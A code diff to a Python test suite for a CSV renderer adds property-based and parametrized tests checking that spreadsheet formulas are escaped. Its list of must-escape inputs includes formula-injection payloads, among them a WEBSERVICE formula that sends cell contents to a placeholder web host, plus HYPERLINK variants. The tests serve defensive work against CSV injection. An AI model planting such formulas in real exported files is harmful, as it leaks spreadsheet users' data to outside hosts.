@@ -10,8 +10,8 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from hypothesis import given
-from hypothesis.strategies import sampled_from
+from hypothesis import Phase, find, given, settings
+from hypothesis.strategies import builds, sampled_from
 
 from docparse import (
     Document,
@@ -34,10 +34,11 @@ from docparse import (
     render,
     walk,
 )
+from docparse.renderers import csv_formulas
 from docparse.renderers.csv import FILLED_CELLS, listing, ragged, tables, unescape_formula
 from tests.attack.judge import csv_faults
 from tests.growth import growth
-from tests.strategies import documents, formula_tables, texts
+from tests.strategies import documents, formula_tables, formulas, texts
 from tests.strategies import tables as any_table
 
 FARES = Table.from_rows([["Zone", "Fare"], ["A", "3"], ["B", "4"]], header_rows=1)
@@ -317,13 +318,35 @@ RUN = [
     "－A1",
     "＠SUM(1)",
     "＠ＳＵＭ（１）",
+    # a comma between arguments is none of a decimal
+    "+SUM(A1,1)",
+    "@SUM(A1 ,2)",
+    "-ROUND(MAX(A:A),2)",
+    '+WEBSERVICE("http://example.org/"&LEFT(A1,9))',
+    "-1+,5",
+    # a quote begins a text behind a space too; two in a text are one
+    '+HYPERLINK( "http://example.org","c")',
+    '+HYPERLINK("http://example.org", "a?")',
+    '+A1 & "?"',
+    '+TEXT(A1, "€")',
+    '+TEXT(A1,"＂")',
+    '+HYPERLINK("a""b")',
+    '"+HYPERLINK("a?")"',
+    # the other parts of a formula
+    "+'it''s'!A1",
+    "+SUM(Fares[[#All],[One way]:[Both]])",
+    "+R[-1]C[2]",
+    "+SUM({1\\2;3\\4})",
+    "+IF(A1,#N/A)",
+    "+#REF!A1",
 ]
 KEPT = ["", "a", "a=1", "1-2", "'tis", "''", "5", "x@y.org", "|", "=", "0 =", "\tx", "\rx", "\nx"]
 KEPT += ["-", "--", " - ", "+", "@", "- -", "-5", "+3 %", "-1.234,50", "-1 234,5 ‰", "- 7", "－5"]
 KEPT += ["+1,000.00", "-.5", "-5.", "−5", "-1e-7", "-1E+10", "-5,00 €", "-$5.00", "-€5", "-5€"]
 KEPT += ["-5 kg", "-5 °C", "-5 to 3", "-5–3", "+49 30 1234-5", "+1 (555) 123-4567", "+1:08.250"]
 KEPT += ["@name", "@name said so", "- item", "-item", "- yes, no; or both", "--help", "-well-known"]
-KEPT += ["- don't", "-5 (of 7)", "- A1. Five", "-CH2(OH)CH3", "+/-5"]
+KEPT += ["- don't", "-5 (of 7)", "- A1. Five", "-CH2(OH)CH3", "+/-5", "-,5", "- , 5", "-#tag"]
+KEPT += ['- "so" they say', '-5 "', "@me\\you", "- see (5 of 7, or 3)", '- A1. "Five", 5']
 
 PARTS = [
     ("x;=1+1", "x;'=1+1"),
@@ -446,6 +469,47 @@ def test_escaping_takes_time_in_proportion(piece: str) -> None:
 def test_nothing_runs_with_any_separator(table: Table) -> None:
     kept, escaped = write(table), render(table, "csv", formulas="escape")
     assert list(csv_faults(kept, escaped)) == []
+
+
+SIGNS = sampled_from("=+-@")
+SIGNED_FORMULAS = builds(str.__add__, SIGNS, formulas())
+
+
+def is_escaped(before: str, formula: str) -> None:
+    assert escape(before + formula).startswith(f"{before}'{formula[0]}")
+
+
+@given(sampled_from(["", "\t", "\n", "x\ty\t", "x\n"]), SIGNS, formulas())
+def test_each_formula_is_escaped(before: str, sign: str, formula: str) -> None:
+    is_escaped(before, sign + formula)
+
+
+@given(SIGNS, formulas(separators=",", in_strings=","))
+def test_each_formula_behind_a_semicolon_is_escaped(sign: str, formula: str) -> None:
+    is_escaped("x;", sign + formula)
+
+
+@pytest.mark.parametrize(
+    ("part", "broken"),
+    [
+        (r"| \.[0-9]+ |", r"| [.,][0-9]+ |"),
+        (r'"[^"]*(?:""[^"]*)*"', r'"[^"]*"'),
+        ('\\t\\r\\n]+ | "', '\\t\\r\\n"]+'),
+        (r"'[^']*(?:''[^']*)*'", r"'[^']*'"),
+    ],
+)
+def test_control_a_formula_read_wrong_is_noticed(
+    part: str, broken: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    pattern = csv_formulas._TOKEN.pattern
+    assert part in pattern
+    wrong = re.compile(pattern.replace(part, broken), re.VERBOSE)
+    monkeypatch.setattr(csv_formulas, "_TOKEN", wrong)
+    wish = settings(
+        max_examples=5000, phases=[Phase.generate], deadline=None, database=None, derandomize=True
+    )
+    with pytest.raises(AssertionError):
+        is_escaped("", find(SIGNED_FORMULAS, lambda text: escape(text) == text, settings=wish))
 
 
 @pytest.mark.parametrize("text", [quotes + text for quotes in ("", "'", "''") for text in RUN])
